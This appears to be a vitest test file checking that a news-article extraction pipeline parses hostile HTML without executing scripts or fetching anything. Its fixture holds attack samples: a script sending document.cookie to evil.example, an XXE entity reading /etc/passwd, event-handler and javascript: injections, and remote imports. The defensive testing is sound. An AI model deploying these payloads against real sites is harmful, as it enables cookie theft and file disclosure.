/**
 * HTML with scripts, event handlers, remote JSON-LD contexts, iframes and every other way a page
 * asks a browser to run code or load something: through all four stages nothing is executed and
 * nothing is fetched. A trap fails the test on any network or process access.
 */
import dns from 'node:dns';
import net from 'node:net';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { runExport } from '../pipeline/export/stage.ts';
import { runExtract } from '../pipeline/extract/stage.ts';
import { htmlToArticle } from '../pipeline/normalize/html.ts';
import { runNormalize } from '../pipeline/normalize/stage.ts';
import { runValidate } from '../pipeline/validate/stage.ts';
import { NetworkTrap } from './support/network-trap.ts';

const tmp = mkdtempSync(join(tmpdir(), 'news-facts-hostile-html-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

declare global {
  var __pwned: string | undefined;
}

const EVIL = 'https://evil.example';
const HOSTILE_PAGE = `<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html lang="en" manifest="${EVIL}/app.manifest">
<head>
  <meta charset="utf-8">
  <meta http-equiv="refresh" content="0;url=${EVIL}/redirect">
  <base href="${EVIL}/base/">
  <title>Harbour bridge reopens | The Courier</title>
  <link rel="stylesheet" href="${EVIL}/style.css"><link rel="preload" href="${EVIL}/font.woff2" as="font">
  <link rel="import" href="${EVIL}/import.html"><link rel="canonical" href="https://news.example.com/bridge">
  <style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/bg.png) }</style>
  <script>globalThis.__pwned = 'inline script'; fetch('${EVIL}/steal?c=' + document.cookie);</script>
  <script src="${EVIL}/remote.js"></script>
  <script type="module">import '${EVIL}/module.js'; globalThis.__pwned = 'module';</script>
  <script type="application/ld+json">
  {"@context": "${EVIL}/context.jsonld", "@type": "NewsArticle", "headline": "Harbour bridge reopens after repairs",
   "datePublished": "2024-03-05T09:30:00Z", "author": {"@id": "${EVIL}/authors/jane"},
   "publisher": {"@type": "Organization", "name": "The Courier", "logo": {"@id": "${EVIL}/logo"}},
   "image": "${EVIL}/tracking.png"}
  </script>
  <script type="application/ld+json">{"@context": ["${EVIL}/a.jsonld", {"@import": "${EVIL}/b.jsonld"}], "@graph": [{"@id": "x", "@type": "Thing"}]}</script>
</head>
<body onload="globalThis.__pwned = 'onload'" onpageshow="globalThis.__pwned = 'onpageshow'">
  <iframe src="${EVIL}/frame.html" srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>
  <object data="${EVIL}/plugin.swf"></object><embed src="${EVIL}/embed.swf">
  <svg onload="globalThis.__pwned = 'svg'"><script>globalThis.__pwned = 'svg script'</script><image href="${EVIL}/svg.png"/></svg>
  <form action="${EVIL}/form"><input autofocus onfocus="globalThis.__pwned = 'onfocus'"></form>
  <article>
    <h1>Harbour bridge reopens after repairs</h1>
    <p>The Harbour Bridge reopened to traffic on Tuesday after a two-year repair programme, the city council said.
       <img src="${EVIL}/pixel.gif" onerror="globalThis.__pwned = 'onerror'" loading="eager"></p>
    <p>Mayor Anna Lindqvist cut the ribbon as several hundred residents watched from the southern approach.
       <a href="javascript:globalThis.__pwned = 'javascript link'">Read more about the mayor</a>.</p>
    <p>“It has been a long wait, but the bridge is safer than it has ever been,” Lindqvist told reporters. &xxe;</p>
    <video src="${EVIL}/video.mp4" autoplay></video><audio src="${EVIL}/audio.mp3" autoplay></audio>
    <p>Engineers replaced 1,200 steel cables and resurfaced the deck, which carries about 60,000 vehicles a day.</p>
  </article>
</body></html>`;

const trap = new NetworkTrap();
afterEach(() => trap.disarm());

describe('the network trap', () => {
  it('catches fetch, http, sockets and DNS (so the tests below would see any attempt)', () => {
    trap.arm();
    expect(() => fetch(`${EVIL}/x`)).toThrow(/network or process access attempted/);
    expect(() => net.connect(443, 'evil.example')).toThrow(/network or process access attempted/);
    expect(() => dns.lookup('evil.example', () => undefined)).toThrow(/network or process access attempted/);
    trap.disarm();
    expect(trap.attempts.map((a) => a.split('(')[0])).toEqual(['fetch', 'connect', 'lookup']);
  });
});

describe('hostile HTML', () => {
  it('is read without running a script or handler and without loading anything', () => {
    globalThis.__pwned = undefined;
    trap.arm();
    const page = htmlToArticle(HOSTILE_PAGE);
    trap.disarm();
    expect(trap.attempts).toEqual([]);
    expect(globalThis.__pwned).toBeUndefined();
    expect(page.body.split('\n')).toEqual([
      'The Harbour Bridge reopened to traffic on Tuesday after a two-year repair programme, the city council said.',
      'Mayor Anna Lindqvist cut the ribbon as several hundred residents watched from the southern approach. Read more about the mayor.',
      '“It has been a long wait, but the bridge is safer than it has ever been,” Lindqvist told reporters. &xxe;',
      'Engineers replaced 1,200 steel cables and resurfaced the deck, which carries about 60,000 vehicles a day.',
    ]);
    // the JSON-LD is read as data: its remote @context is never resolved, its values are plain strings
    expect(page.metadata).toMatchObject({ headline: 'Harbour bridge reopens after repairs', datePublished: '2024-03-05T09:30:00Z', image: `${EVIL}/tracking.png` });
  });

  it('goes through normalize, extract, validate and export with nothing executed or fetched', async () => {
    const input = join(tmp, 'in');
    const out = join(tmp, 'out');
    mkdirSync(input);
    writeFileSync(join(input, 'page.html'), HOSTILE_PAGE);
    globalThis.__pwned = undefined;
    trap.arm();
    const reports = [await runNormalize([input], out), await runExtract(out, { jobs: 1, quiet: true }), runValidate(out), await runExport(out)];
    trap.disarm();
    expect(trap.attempts).toEqual([]);
    expect(globalThis.__pwned).toBeUndefined();
    expect(reports.flatMap((r) => r.failures)).toEqual([]);
    const [normalized] = readdirSync(join(out, 'normalized'));
    const article = JSON.parse(readFileSync(join(out, 'normalized', normalized), 'utf8'));
    expect(article.text).not.toMatch(/pwned|root:|evil/);
    const exported = readdirSync(join(out, 'jsonld')).map((f) => readFileSync(join(out, 'jsonld', f), 'utf8')).join('');
    // the page's remote context is not the dataset's context
    expect(exported).not.toContain(`${EVIL}/context.jsonld`);
  });
});
